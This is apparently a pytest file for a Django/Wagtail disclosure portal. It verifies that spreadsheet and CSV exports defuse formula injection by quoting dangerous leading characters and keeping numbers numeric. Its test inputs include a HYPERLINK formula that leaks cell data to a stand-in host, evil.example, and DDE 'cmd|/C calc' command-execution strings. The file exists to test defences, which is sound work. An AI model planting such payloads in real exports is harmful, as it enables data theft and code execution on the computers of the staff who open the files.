"""Every spreadsheet and CSV export, opened as the office would open it: no cell is a formula
and no text starts with a character that makes one (CSV injection), numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import published_disclosure
from tests.requests.conftest import make_application
from xxgk.audit.services import record_event
from xxgk.core.spreadsheets import FORMULA_PREFIXES, safe_cell
from xxgk.mailbox import services as mailbox_services
from xxgk.supervision.models import Inspection

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_safe_cell_quotes_text_only():
    assert safe_cell("=1+1") == "'=1+1"
    for prefix in FORMULA_PREFIXES:
        assert safe_cell(f"{prefix}SUM(A1)") == f"'{prefix}SUM(A1)"
    assert safe_cell("+8613800138000") == "'+8613800138000"
    assert safe_cell("正常文字 =1") == "正常文字 =1"
    assert safe_cell("a\x01b\x0bc") == "abc"  # control characters XLSX cannot hold
    for number in (-5, Decimal("-12.50"), -0.5, 0, 1_000_000):
        assert safe_cell(number) == number and type(safe_cell(number)) is type(number)
    day = datetime.date(2022, 9, 1)
    assert safe_cell(day) is day and safe_cell(None) is None and safe_cell(True) is True


def assert_harmless_xlsx(content: bytes) -> list:
    """Every cell of every sheet; fails on a formula cell or a dangerous leading character."""
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), cell.value
                values.append(cell.value)
    return values


def assert_harmless_csv(text: str) -> list:
    values = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    for value in values:
        assert not value.startswith(FORMULA_PREFIXES), value
    return values


def content_of(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_request_register_and_letters(client, office, mailbox, letter_data):
    make_application(name=HOSTILE, address="@SUM(1+1)*cmd|' /C calc'!A0", phone="+8613800138000")
    mailbox_services.submit_letter(
        mailbox=mailbox, data={**letter_data, "category": None, "subject": "-2+3+cmd|'/C calc'"}
    )
    client.force_login(office)
    register = assert_harmless_xlsx(content_of(client.get(reverse("requests_admin:export"))))
    assert f"'{HOSTILE}" in register and "'+8613800138000" in register
    letters = assert_harmless_xlsx(content_of(client.get(reverse("mailbox_admin:export"))))
    assert "'-2+3+cmd|'/C calc'" in letters


def test_statistics_workbooks_keep_numbers(client, office, mailbox, letter_data):
    mailbox.name = "@信箱"
    mailbox.save()
    mailbox_services.submit_letter(mailbox=mailbox, data={**letter_data, "category": None})
    make_application()
    client.force_login(office)
    today = datetime.date.today()
    period = {"start": (today - datetime.timedelta(days=30)).isoformat(), "end": today.isoformat()}
    letters = client.get(reverse("mailbox_admin:statistics"), {**period, "format": "xlsx"})
    values = assert_harmless_xlsx(content_of(letters))
    assert "'@信箱" in values and 1 in values  # the count is a number, not text
    requests = client.get(reverse("requests_admin:statistics"), {**period, "format": "xlsx"})
    assert any(isinstance(v, int) for v in assert_harmless_xlsx(content_of(requests)))


def test_supervision_workbooks(client, office, dept_a, item_a, item_b):
    dept_a.name = HOSTILE
    dept_a.save()
    Inspection.objects.create(
        department=dept_a,
        inspected_on=datetime.date(2022, 3, 1),
        findings="+未按期公开招生章程",
        rectification_deadline=datetime.date(2022, 4, 1),
    )
    client.force_login(office)
    query = {"school_year": "2021"}
    matrix = assert_harmless_xlsx(
        content_of(client.get(reverse("supervision:export_matrix"), query))
    )
    assert f"'{HOSTILE}" in matrix
    overdue = content_of(client.get(reverse("supervision:export_overdue"), query))
    assert "'+未按期公开招生章程" in assert_harmless_xlsx(overdue)


def test_audit_log_csv_and_xlsx(client, supervisor):
    record_event("auth.login.failed", detail={"username": "x"}, request=None)
    from xxgk.audit.models import AuditEvent

    AuditEvent.objects.create(action="auth.login.failed", actor_repr=HOSTILE, user_agent="\t=1")
    client.force_login(supervisor)
    text = content_of(client.get("/admin/audit/", {"format": "csv"})).decode("utf-8")
    assert f"'{HOSTILE}" in assert_harmless_csv(text)
    workbook = content_of(client.get("/admin/audit/", {"format": "xlsx"}))
    assert "'\t=1" in assert_harmless_xlsx(workbook)


def test_wagtail_report_exports(client, admin_user, office, dept_a, item_a):
    """Wagtail's own exports (here 站点历史, whose rows carry page titles editors typed)."""
    published_disclosure(item=item_a, department=dept_a, author=office, title=HOSTILE)
    client.force_login(admin_user)
    url = reverse("wagtailadmin_reports:site_history")
    text = content_of(client.get(url, {"export": "csv"})).decode("utf-8")
    assert any(HOSTILE in value for value in assert_harmless_csv(text))
    values = assert_harmless_xlsx(content_of(client.get(url, {"export": "xlsx"})))
    assert any(isinstance(v, str) and HOSTILE in v for v in values)
